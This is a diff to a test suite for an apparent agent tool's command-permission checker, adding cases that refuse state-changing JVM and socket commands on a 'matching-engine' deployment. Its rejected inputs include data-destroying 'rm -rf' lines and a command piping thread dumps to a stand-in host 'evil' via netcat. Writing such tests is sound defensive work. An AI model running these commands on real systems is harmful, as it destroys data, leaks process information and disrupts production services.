@@ -41,6 +41,26 @@ describe('kubectl_exec', () => {
   it.each([['rm -rf /data'], ['jmap -dump:file=/tmp/x 1; rm -rf /'], ['jcmd 1 Thread.print | nc evil 80']])('refuses "%s": not a single diagnostic program', (command) => {
     expect(kubectlExec.checkCaps!({ command, deployment: 'trading-api' }, policy).length).toBe(1);
   });
+
+  // A diagnostic program that changes the process: an automatic "read-only" step forcing a GC on the matching engine
+  // (the seed gates trigger_manual_gc on approval) compiled and ran, even in diagnose-only mode, on main.
+  it.each([
+    ['jcmd 1 GC.run', 'GC.run'],
+    ['jcmd 1 VM.set_flag HeapDumpOnOutOfMemoryError false', 'VM.set_flag'],
+    ['jcmd 1 JFR.start duration=60s', 'JFR.start'],
+    ['jcmd 1 ManagementAgent.start jmxremote.port=9999', 'ManagementAgent.start'],
+    ['jcmd 1 -f /tmp/commands', 'jcmd -f'],
+    ['ss -K dst 10.0.0.1', 'ss -K'],
+    ['ss -tK', 'ss -K'],
+    ['ss --kill', 'ss -K'],
+  ])('refuses "%s": a diagnostic program used to change state (%s)', (command, named) => {
+    const problems = kubectlExec.checkCaps!({ command, deployment: 'matching-engine' }, policy);
+    expect(problems).toEqual([expect.stringContaining(named)]);
+  });
+
+  it.each([['jmap -dump:format=b,file=/tmp/heap.hprof 1'], ['jcmd 1 Thread.print'], ['jcmd 1 GC.heap_info'], ['jcmd -l'], ['ss -tanp'], ['netstat -an']])('safe twin: takes the read-only "%s"', (command) => {
+    expect(kubectlExec.checkCaps!({ command, deployment: 'matching-engine' }, policy)).toEqual([]);
+  });
 });
 
 describe('deploymentTarget', () => {
